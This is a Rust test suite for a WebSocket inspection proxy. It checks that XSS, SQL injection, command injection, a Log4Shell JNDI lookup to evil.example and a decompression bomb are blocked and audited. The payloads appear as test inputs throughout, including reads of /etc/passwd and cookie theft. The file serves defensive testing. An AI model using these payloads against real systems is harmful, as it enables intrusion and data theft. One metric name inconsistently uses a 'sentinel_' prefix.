//! The inspection engine through the proxy: attacks in plain, fragmented, JSON-escaped,
//! socket.io-framed, MessagePack and permessage-deflate compressed messages close the client
//! with 1008 naming the category and never reach the upstream, not even in part; decompression
//! bombs, rate and schema limits; detect-only mode; audit events and metrics.

mod support;

use std::net::SocketAddr;
use std::time::Duration;

use flate2::{Compress, Compression, FlushCompress};
use support::client::{HandshakeRequest, RawClient};
use support::frame::{self, FrameSpec, RSV1};
use support::metrics::{scrape, scrape_until};
use support::proxy::{free_addr, Proxy};
use support::upstream::{Behavior, Event, Upstream};

const XSS_REASON: &str = "Policy violation: XSS detected";
const SQLI_REASON: &str = "Policy violation: SQL injection detected";
const CMD_REASON: &str = "Policy violation: command injection detected";
const WARM_UP: &str = "hello, is anyone there?";

async fn start() -> (Upstream, Proxy) {
    let upstream = Upstream::echo().await;
    let proxy = Proxy::start_inspected(upstream.addr, None).await;
    (upstream, proxy)
}

async fn start_with_metrics() -> (Upstream, Proxy, SocketAddr) {
    let upstream = Upstream::echo().await;
    let metrics = free_addr();
    let proxy = Proxy::start_inspected(upstream.addr, Some(metrics)).await;
    (upstream, proxy, metrics)
}

/// A connection on `path` whose warm-up message has been echoed.
async fn warmed_up(proxy: &Proxy, path: &str) -> RawClient {
    let mut client = RawClient::connect(proxy.addr, path).await;
    client.send(&FrameSpec::text(WARM_UP)).await;
    assert_eq!(
        client.read_message().await,
        (frame::TEXT, WARM_UP.as_bytes().to_vec())
    );
    client
}

/// After a refused message: the upstream's only data frame was the warm-up (so no part of the
/// refused message arrived), and its connection was closed with a Close (1001).
async fn assert_upstream_saw_only_the_warm_up(upstream: &Upstream) {
    upstream.wait_for_close_or_eof().await;
    let data_frames: Vec<Vec<u8>> = upstream
        .frames()
        .into_iter()
        .filter(|f| matches!(f.opcode, frame::TEXT | frame::BINARY | frame::CONTINUATION))
        .map(|f| f.payload)
        .collect();
    assert_eq!(
        data_frames,
        [WARM_UP.as_bytes()],
        "data frames at the upstream"
    );
    assert_eq!(upstream.close_codes(), [Some(1001)]);
}

/// `attack` (bytes of whole frames) on a warmed-up `/ws-inspected` connection, written `chunk`
/// bytes at a time, must close the client with 1008 and `reason` and never reach the upstream.
async fn assert_blocked_frames(attack: &[u8], chunk: usize, reason: &str) {
    let (upstream, proxy) = start().await;
    let mut client = warmed_up(&proxy, "/ws-inspected").await;
    client
        .send_chunked(attack, chunk, Duration::from_millis(2))
        .await
        .expect("send the attack");
    client.expect_close_reason(1008, reason).await;
    assert_upstream_saw_only_the_warm_up(&upstream).await;
}

async fn assert_blocked(attack: &str, reason: &str) {
    let frame = FrameSpec::text(attack).encode();
    assert_blocked_frames(&frame, frame.len(), reason).await;
}

#[tokio::test]
async fn xss_closes_1008_naming_xss_and_never_reaches_the_upstream() {
    assert_blocked("<script>alert(document.cookie)</script>", XSS_REASON).await;
}

#[tokio::test]
async fn sql_injection_closes_1008_naming_sql_injection() {
    assert_blocked(
        "' UNION SELECT username, password FROM users--",
        SQLI_REASON,
    )
    .await;
}

#[tokio::test]
async fn command_injection_closes_1008_naming_command_injection() {
    assert_blocked("ping 127.0.0.1; cat /etc/passwd", CMD_REASON).await;
}

#[tokio::test]
async fn custom_pattern_closes_1008() {
    assert_blocked(
        "please open forbidden-42 for me",
        "Policy violation: custom pattern matched",
    )
    .await;
}

#[tokio::test]
async fn benign_messages_with_shell_and_sql_characters_pass() {
    let (upstream, proxy) = start().await;
    let mut client = RawClient::connect(proxy.addr, "/ws-inspected").await;
    let benign = [
        "let's meet at 5; bring chips | salsa",
        "she said \"select a seat\" and left",
        "a < b && b > c, isn't it?",
        r#"{"q":"a;b|c","note":"it's \"fine\""}"#,
        "1 OR 2 apples; choose one",
    ];
    for message in benign {
        client.send(&FrameSpec::text(message)).await;
        assert_eq!(
            client.read_message().await,
            (frame::TEXT, message.as_bytes().to_vec()),
            "benign message {message:?}"
        );
    }
    let delivered: Vec<Vec<u8>> = upstream.messages().into_iter().map(|m| m.1).collect();
    let sent: Vec<&[u8]> = benign.iter().map(|m| m.as_bytes()).collect();
    assert_eq!(delivered, sent);
}

#[tokio::test]
async fn benign_text_with_or_and_a_double_dash_passes() {
    // Plain English that shares `or` and `--` with `' or 1=1 --`, without quote or comparison.
    let (upstream, proxy) = start().await;
    let mut client = RawClient::connect(proxy.addr, "/ws-inspected").await;
    let message = "price: $5 (or less) -- today only";
    client.send(&FrameSpec::text(message)).await;
    assert_eq!(
        client.read_message().await,
        (frame::TEXT, message.as_bytes().to_vec())
    );
    assert_eq!(
        upstream.messages(),
        [(frame::TEXT, message.as_bytes().to_vec())]
    );
}

#[tokio::test]
async fn xss_split_across_three_fragments_and_tcp_writes_is_blocked_whole() {
    // No fragment holds a whole token; the writes cut frame headers and payloads alike.
    let attack = frame::text_fragments(&["<scr", "ipt>alert(document.cookie)</sc", "ript>"], 0, 0);
    assert_blocked_frames(&attack, 3, XSS_REASON).await;
}

#[tokio::test]
async fn xss_in_a_ping_a_pong_or_a_close_reason_is_blocked_and_never_reaches_the_upstream() {
    // Upstreams log close reasons and ping data, and show them in admin pages.
    let attack = "<img src=x onerror=alert(1)>";
    for frame in [
        FrameSpec::ping(attack),
        FrameSpec::new(frame::PONG, attack),
        FrameSpec::close(1000, attack),
    ] {
        let (upstream, proxy) = start().await;
        let mut client = warmed_up(&proxy, "/ws-inspected").await;
        client.send(&frame).await;
        client.expect_close_reason(1008, XSS_REASON).await;
        assert_upstream_saw_only_the_warm_up(&upstream).await;
        let leaked = upstream.frames().into_iter().any(|f| {
            f.payload
                .windows(attack.len())
                .any(|w| w == attack.as_bytes())
        });
        assert!(
            !leaked,
            "the upstream got the attack in a frame of {frame:?}"
        );
    }
}

#[tokio::test]
async fn an_attack_in_the_upgrades_query_or_logged_headers_gets_403_and_no_upstream_connection() {
    let (upstream, proxy) = start().await;
    for path in [
        "/ws-inspected?room=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "/ws-inspected?room=lobby&nick=x%27%20OR%20%271%27%3D%271",
        "/ws-inspected?cmd=x;cat+/etc/passwd",
    ] {
        match RawClient::handshake(proxy.addr, &HandshakeRequest::new(path)).await {
            Ok(_) => panic!("{path} was upgraded"),
            Err(refusal) => assert_eq!(refusal.status, 403, "{path}"),
        }
    }
    // Log4Shell rode in logged headers.
    let jndi = HandshakeRequest::new("/ws-inspected")
        .header("User-Agent", "${jndi:ldap://evil.example/a}");
    match RawClient::handshake(proxy.addr, &jndi).await {
        Ok(_) => panic!("a JNDI lookup in the User-Agent was upgraded"),
        Err(refusal) => assert_eq!(refusal.status, 403),
    }
    assert!(upstream.events().is_empty(), "{:?}", upstream.events());
    // Ordinary parameters, a token, a search that reads like SQL and a browser's headers pass.
    let benign = "/ws-inspected?room=general&nick=O%27Brien&q=select+a+seat&debug&token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln";
    let browser = HandshakeRequest::new(benign)
        .header(
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
        )
        .header("Referer", "https://chat.example/rooms/general?tab=members&q=select+a+seat");
    let mut client = RawClient::handshake(proxy.addr, &browser)
        .await
        .unwrap_or_else(|refusal| panic!("{refusal:?}\n{}", proxy.log_tail()));
    client.send(&FrameSpec::text(WARM_UP)).await;
    assert_eq!(
        client.read_message().await,
        (frame::TEXT, WARM_UP.as_bytes().to_vec())
    );
}

#[tokio::test]
async fn json_escaped_xss_inside_a_json_string_is_blocked() {
    assert_blocked(
        r#"{"type":"chat","text":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#,
        XSS_REASON,
    )
    .await;
}

#[tokio::test]
async fn base64_encoded_command_injection_in_a_json_field_is_blocked() {
    // `; cat /etc/passwd`, as an application that decodes its payload field would run it.
    assert_blocked(
        r#"{"type":"job","payload":"OyBjYXQgL2V0Yy9wYXNzd2Q="}"#,
        CMD_REASON,
    )
    .await;
}

#[tokio::test]
async fn socket_io_event_carrying_xss_is_blocked() {
    assert_blocked(r#"42["chat","<img src=x onerror=alert(1)>"]"#, XSS_REASON).await;
}

#[tokio::test]
async fn binary_message_carrying_xss_is_blocked_when_binary_is_inspected() {
    let attack = FrameSpec::binary(&b"<script>alert(1)</script>"[..]).encode();
    assert_blocked_frames(&attack, attack.len(), XSS_REASON).await;
}

/// A permessage-deflate sender with context takeover (RFC 7692): raw deflate, sync flush, the
/// trailing 00 00 ff ff removed.
struct Deflater(Compress);

impl Deflater {
    fn new() -> Deflater {
        Deflater(Compress::new(Compression::default(), false))
    }

    fn compress(&mut self, message: &[u8]) -> Vec<u8> {
        let mut out = Vec::with_capacity(message.len() / 2 + 64);
        let mut consumed = 0;
        loop {
            if out.capacity() - out.len() < 64 {
                out.reserve(out.capacity());
            }
            let before = self.0.total_in();
            self.0
                .compress_vec(&message[consumed..], &mut out, FlushCompress::Sync)
                .expect("deflate");
            consumed += (self.0.total_in() - before) as usize;
            // A sync flush is complete once all input is in and the output ends with the tail.
            if consumed == message.len() && out.ends_with(&[0, 0, 0xff, 0xff]) {
                break;
            }
        }
        out.truncate(out.len() - 4);
        out
    }
}

async fn deflate_session() -> (Upstream, Proxy, RawClient) {
    deflate_session_on("/ws-inspected", Vec::new()).await
}

/// A permessage-deflate connection on `path` whose upstream sends `after_101` first.
async fn deflate_session_on(path: &str, after_101: Vec<u8>) -> (Upstream, Proxy, RawClient) {
    let upstream = Upstream::start(Behavior {
        accept_deflate: true,
        after_101,
        ..Behavior::default()
    })
    .await;
    let proxy = Proxy::start_inspected(upstream.addr, None).await;
    let request =
        HandshakeRequest::new(path).header("Sec-WebSocket-Extensions", "permessage-deflate");
    let client = RawClient::handshake(proxy.addr, &request)
        .await
        .unwrap_or_else(|resp| panic!("handshake refused: {resp:?}"));
    let agreed = support::http::header(&client.headers, "sec-websocket-extensions");
    assert_eq!(agreed, Some("permessage-deflate"), "{:?}", client.headers);
    (upstream, proxy, client)
}

#[tokio::test]
async fn compressed_xss_is_inflated_with_the_connections_context_and_blocked() {
    let (upstream, _proxy, mut client) = deflate_session().await;
    let mut deflater = Deflater::new();
    // The second copy is mostly a back-reference into the first: the proxy must keep the
    // window between messages to read it.
    let mut sent = Vec::new();
    for _ in 0..2 {
        let compressed = deflater.compress(WARM_UP.as_bytes());
        client
            .send(&FrameSpec::new(frame::TEXT, compressed.clone()).rsv(RSV1))
            .await;
        let echo = client.read_frame().await;
        assert_eq!(
            (echo.rsv, echo.opcode, &echo.payload),
            (RSV1, frame::TEXT, &compressed)
        );
        sent.push(compressed);
    }
    let attack = deflater.compress(b"<script>alert('hello, is anyone there?')</script>");
    client
        .send(&FrameSpec::new(frame::TEXT, attack).rsv(RSV1))
        .await;
    client.expect_close_reason(1008, XSS_REASON).await;
    upstream.wait_for_close_or_eof().await;
    let delivered: Vec<Vec<u8>> = upstream.messages().into_iter().map(|m| m.1).collect();
    assert_eq!(delivered, sent);
}

/// `message` as `pieces` frames: the first with RSV1, each continuation with `continuation_rsv`.
fn compressed_fragments(message: &[u8], pieces: usize, continuation_rsv: u8) -> Vec<u8> {
    let chunks: Vec<&[u8]> = message.chunks(message.len().div_ceil(pieces)).collect();
    frame::text_fragments(&chunks, RSV1, continuation_rsv)
}

#[tokio::test]
async fn compressed_xss_split_across_fragments_and_tcp_writes_is_blocked() {
    let (upstream, _proxy, mut client) = deflate_session().await;
    let attack = Deflater::new().compress(b"<script>alert(document.cookie)</script>");
    client
        .send_chunked(
            &compressed_fragments(&attack, 3, 0),
            2,
            Duration::from_millis(1),
        )
        .await
        .expect("send the fragments");
    client.expect_close_reason(1008, XSS_REASON).await;
    upstream.wait_for_close_or_eof().await;
    assert_eq!(upstream.messages(), []);
    assert!(
        upstream.frames().iter().all(|f| f.opcode == frame::CLOSE),
        "{:?}",
        upstream.frames()
    );
}

#[tokio::test]
async fn rsv1_on_a_continuation_frame_is_refused_with_1002() {
    let (upstream, _proxy, mut client) = deflate_session().await;
    let message = Deflater::new().compress(WARM_UP.as_bytes());
    client
        .send_offending(&compressed_fragments(&message, 2, RSV1))
        .await;
    client.expect_close(1002).await;
    upstream.wait_for_close_or_eof().await;
    assert_eq!(upstream.messages(), []);
}

#[tokio::test]
async fn bytes_after_a_final_deflate_block_close_1007_and_are_not_forwarded() {
    let (upstream, _proxy, mut client) = deflate_session().await;
    // A receiver that inflates on past the end of the first stream reads the second.
    let final_block = |text: &[u8]| {
        let mut out = Vec::with_capacity(text.len() + 64);
        Compress::new(Compression::default(), false)
            .compress_vec(text, &mut out, FlushCompress::Finish)
            .expect("deflate");
        out
    };
    let mut message = final_block(WARM_UP.as_bytes());
    message.extend(final_block(b"<script>alert(1)</script>"));
    client
        .send_offending(&FrameSpec::new(frame::TEXT, message).rsv(RSV1).encode())
        .await;
    client.expect_close(1007).await;
    upstream.wait_for_close_or_eof().await;
    assert_eq!(upstream.messages(), []);
}

#[tokio::test]
async fn decompression_bomb_closes_1009_and_is_not_forwarded() {
    let (upstream, _proxy, mut client) = deflate_session().await;
    // 8 MiB of zeros deflate to about 8 KiB: small on the wire, 4 times the route's limit.
    let bomb = Deflater::new().compress(&vec![0u8; 8 << 20]);
    assert!(bomb.len() < 16 * 1024, "{} bytes", bomb.len());
    client
        .send_offending(&FrameSpec::new(frame::TEXT, bomb).rsv(RSV1).encode())
        .await;
    client.expect_close_reason(1009, "Message too big").await;
    upstream.wait_for_close_or_eof().await;
    assert_eq!(upstream.messages(), []);
}

#[tokio::test]
async fn detect_only_mode_forwards_the_attack_and_audits_it() {
    let (upstream, proxy) = start().await;
    let mut client = RawClient::connect(proxy.addr, "/ws-detect").await;
    let attack = "<script>alert(1)</script>";
    client.send(&FrameSpec::text(attack)).await;
    assert_eq!(
        client.read_message().await,
        (frame::TEXT, attack.as_bytes().to_vec())
    );
    assert_eq!(
        upstream.messages(),
        [(frame::TEXT, attack.as_bytes().to_vec())]
    );
    let events = proxy.wait_for_audit_events(1).await;
    assert_eq!(events.len(), 1, "{events:#?}");
    let event = &events[0];
    assert_eq!(event["action"], "detect-only", "{event}");
    assert_eq!(event["tag"], "ws-xss", "{event}");
    assert_eq!(event["route"], "ws-detect", "{event}");
}

#[tokio::test]
async fn xss_from_the_upstream_is_not_delivered_on_a_route_inspecting_both_ways() {
    let upstream = Upstream::start(Behavior {
        after_101: FrameSpec::text("<script>alert(1)</script>")
            .unmasked()
            .encode(),
        ..Behavior::default()
    })
    .await;
    let proxy = Proxy::start_inspected(upstream.addr, None).await;
    let mut client = RawClient::connect(proxy.addr, "/ws-both").await;
    let (before, close) = client.read_until_close_frame().await;
    assert_eq!(
        before,
        [],
        "nothing of the upstream's message reaches the client"
    );
    assert_eq!(close.close_code(), Some(1008), "{close:?}");
    assert_eq!(&close.payload[2..], XSS_REASON.as_bytes());
    upstream
        .wait_for("the proxy's Close", |events| {
            events
                .iter()
                .any(|(_, e)| matches!(e, Event::Frame(f) if f.opcode == frame::CLOSE))
        })
        .await;
    let to_upstream = upstream
        .frames()
        .into_iter()
        .find(|f| f.opcode == frame::CLOSE)
        .expect("a Close");
    assert_eq!(to_upstream.close_code(), Some(1008));
    assert_eq!(&to_upstream.payload[2..], XSS_REASON.as_bytes());
}

#[tokio::test]
async fn compressed_xss_from_the_upstream_is_inflated_and_not_delivered() {
    let mut deflater = Deflater::new();
    let mut after_101 = FrameSpec::new(frame::TEXT, deflater.compress(WARM_UP.as_bytes()))
        .rsv(RSV1)
        .unmasked()
        .encode();
    let attack = deflater.compress(b"<img src=x onerror=alert(1)>");
    after_101.extend(
        FrameSpec::new(frame::TEXT, attack)
            .rsv(RSV1)
            .unmasked()
            .encode(),
    );
    let (upstream, _proxy, mut client) = deflate_session_on("/ws-both", after_101).await;
    let (before, close) = client.read_until_close_frame().await;
    let delivered: Vec<&[u8]> = before.iter().map(|f| f.payload.as_slice()).collect();
    let warm_up = Deflater::new().compress(WARM_UP.as_bytes());
    assert_eq!(delivered, [warm_up.as_slice()], "only the benign message");
    assert_eq!(close.close_code(), Some(1008), "{close:?}");
    assert_eq!(&close.payload[2..], XSS_REASON.as_bytes());
    upstream
        .wait_for("the proxy's Close", |events| {
            events
                .iter()
                .any(|(_, e)| matches!(e, Event::Frame(f) if f.opcode == frame::CLOSE))
        })
        .await;
    assert_eq!(upstream.close_codes(), [Some(1008)]);
}

#[tokio::test]
async fn a_reload_changes_the_policy_of_new_connections_only() {
    let (_upstream, proxy) = start().await;
    let attack = "<script>alert(1)</script>";
    let mut old = RawClient::connect(proxy.addr, "/ws-detect").await;
    old.send(&FrameSpec::text(attack)).await;
    assert_eq!(old.read_message().await.1, attack.as_bytes());

    let config = std::fs::read_to_string(proxy.config_path()).expect("read the config");
    let blocking = config.replacen(r#"agents "detector""#, r#"agents "inspector""#, 1);
    assert_ne!(config, blocking);
    proxy.reload_with(&blocking);
    proxy.wait_for_log_lines("configuration reloaded", 1).await;

    let mut new = RawClient::connect(proxy.addr, "/ws-detect").await;
    new.send(&FrameSpec::text(attack)).await;
    new.expect_close_reason(1008, XSS_REASON).await;
    old.send(&FrameSpec::text(attack)).await;
    assert_eq!(old.read_message().await.1, attack.as_bytes());
}

#[tokio::test]
async fn messages_past_the_burst_close_1008_for_the_rate_limit() {
    let (upstream, proxy) = start().await;
    let mut client = RawClient::connect(proxy.addr, "/ws-rate").await;
    // Burst 5 at 5 per second: six messages in one write leave no time to refill a token.
    let burst: Vec<u8> = (0..6)
        .flat_map(|i| FrameSpec::text(&format!("message {i}")).encode())
        .collect();
    client.send_raw(&burst).await.expect("send the burst");
    // The echoes of the first five race the Close; whichever arrive come first and in order.
    let (before, close) = client.read_until_close_frame().await;
    assert_eq!(close.close_code(), Some(1008), "{close:?}");
    assert_eq!(
        &close.payload[2..],
        b"Policy violation: rate limit exceeded",
        "{close:?}"
    );
    for (i, echo) in before.iter().enumerate() {
        assert_eq!(
            echo.payload,
            format!("message {i}").as_bytes(),
            "{before:?}"
        );
    }
    upstream.wait_for_close_or_eof().await;
    let delivered: Vec<Vec<u8>> = upstream.messages().into_iter().map(|m| m.1).collect();
    let expected: Vec<Vec<u8>> = (0..5)
        .map(|i| format!("message {i}").into_bytes())
        .collect();
    assert_eq!(delivered, expected);
    let events = proxy.wait_for_audit_events(1).await;
    assert_eq!(events[0]["tag"], "ws-rate-limit", "{events:#?}");
}

#[tokio::test]
async fn json_that_breaks_the_schema_closes_1008_and_valid_json_passes() {
    let (upstream, proxy) = start().await;
    let mut client = RawClient::connect(proxy.addr, "/ws-schema").await;
    let valid = r#"{"type":"chat","text":"hi there"}"#;
    client.send(&FrameSpec::text(valid)).await;
    assert_eq!(
        client.read_message().await,
        (frame::TEXT, valid.as_bytes().to_vec())
    );
    client
        .send(&FrameSpec::text(r#"{"type":"admin","text":"grant me"}"#))
        .await;
    client
        .expect_close_reason(1008, "Policy violation: schema validation failed")
        .await;
    upstream.wait_for_close_or_eof().await;
    assert_eq!(
        upstream.messages(),
        [(frame::TEXT, valid.as_bytes().to_vec())]
    );
}

/// A MessagePack map of one string key to one string value (fixmap, fixstr/str8).
fn msgpack_pair(key: &str, value: &str) -> Vec<u8> {
    let mut out = vec![0x81];
    for s in [key, value] {
        let len = u8::try_from(s.len()).expect("short test strings");
        if len < 32 {
            out.push(0xa0 | len);
        } else {
            out.extend_from_slice(&[0xd9, len]);
        }
        out.extend_from_slice(s.as_bytes());
    }
    out
}

#[tokio::test]
async fn msgpack_route_passes_msgpack_and_refuses_other_binary() {
    let (upstream, proxy) = start().await;
    let mut client = RawClient::connect(proxy.addr, "/ws-msgpack").await;
    let valid = msgpack_pair("text", "hello there");
    client.send(&FrameSpec::binary(valid.clone())).await;
    assert_eq!(client.read_message().await, (frame::BINARY, valid.clone()));
    // 0xc1 is the one byte MessagePack never uses.
    client.send(&FrameSpec::binary(vec![0xc1, 1, 2, 3])).await;
    client
        .expect_close_reason(1008, "Policy violation: schema validation failed")
        .await;
    upstream.wait_for_close_or_eof().await;
    assert_eq!(upstream.messages(), [(frame::BINARY, valid)]);
}

#[tokio::test]
async fn xss_inside_a_msgpack_string_is_blocked() {
    let (upstream, proxy) = start().await;
    let mut client = RawClient::connect(proxy.addr, "/ws-msgpack").await;
    let attack = msgpack_pair("text", "<script>alert(document.domain)</script>");
    client.send(&FrameSpec::binary(attack)).await;
    client.expect_close_reason(1008, XSS_REASON).await;
    upstream.wait_for_close_or_eof().await;
    assert_eq!(upstream.messages(), []);
}

#[tokio::test]
async fn a_block_is_audited_as_one_json_line_with_its_context() {
    let (_upstream, proxy) = start().await;
    let mut client = warmed_up(&proxy, "/ws-inspected").await;
    client
        .send(&FrameSpec::text("<script>alert(document.cookie)</script>"))
        .await;
    client.expect_close(1008).await;
    let events = proxy.wait_for_audit_events(1).await;
    assert_eq!(events.len(), 1, "{events:#?}");
    let event = &events[0];
    assert_eq!(event["tag"], "ws-xss", "{event}");
    assert_eq!(event["action"], "blocked", "{event}");
    assert_eq!(event["route"], "ws-inspected", "{event}");
    assert_eq!(event["direction"], "inbound", "{event}");
    assert_eq!(event["client_ip"], "127.0.0.1", "{event}");
    assert!(event["connection_id"].as_u64().is_some(), "{event}");
    let rule = event["rule_id"].as_str().unwrap_or_default();
    assert!(rule.starts_with("xss."), "{event}");
    let excerpt = event["excerpt"].as_str().unwrap_or_default();
    assert!(excerpt.contains("script"), "{event}");
    assert!(excerpt.len() <= 128, "{event}");
}

#[tokio::test]
async fn blocks_and_detections_are_counted_by_tag() {
    let (_upstream, proxy, metrics) = start_with_metrics().await;
    let before = scrape(metrics).await;
    assert_eq!(
        before.count("frameguard_agent_ws_blocked_total", &[("tag", "ws-xss")]),
        0.0
    );

    let mut client = warmed_up(&proxy, "/ws-inspected").await;
    client
        .send(&FrameSpec::text("<script>alert(1)</script>"))
        .await;
    client.expect_close(1008).await;
    let mut client = warmed_up(&proxy, "/ws-inspected").await;
    client
        .send(&FrameSpec::text("' UNION SELECT password FROM users--"))
        .await;
    client.expect_close(1008).await;
    let mut client = RawClient::connect(proxy.addr, "/ws-detect").await;
    client
        .send(&FrameSpec::text("<script>alert(2)</script>"))
        .await;
    client.read_message().await;

    let after = scrape_until(metrics, "the detect-only detection", |m| {
        m.count(
            "frameguard_agent_ws_detect_only_total",
            &[("tag", "ws-xss")],
        ) == 1.0
    })
    .await;
    let blocked = |name: &str, tag: &str| after.count(name, &[("tag", tag)]);
    assert_eq!(blocked("frameguard_agent_ws_blocked_total", "ws-xss"), 1.0);
    assert_eq!(blocked("frameguard_agent_ws_blocked_total", "ws-sqli"), 1.0);
    assert_eq!(blocked("sentinel_agent_ws_blocked_total", "ws-xss"), 1.0);
    // Two warm-ups, two attacks, one detect-only message.
    assert_eq!(after.count("frameguard_messages_inspected_total", &[]), 5.0);
}
